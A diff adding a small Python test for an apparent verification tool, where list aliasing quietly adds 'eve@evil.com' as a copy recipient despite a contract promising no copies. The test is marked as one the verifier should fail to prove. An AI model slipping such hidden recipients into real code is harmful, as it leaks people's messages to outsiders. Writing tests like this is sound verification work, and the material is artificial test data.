@@ -1,0 +1,13 @@
+# not proved: the outer list holds the list itself
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_copies
+
+
+@lictor_layer.guarantee(c.copies_are([]))
+def main() -> None:
+    xs = []
+    outer = [xs]
+    for each in outer:
+        each.append("eve@evil.com")
+    send_copies("bob@example.com", xs)
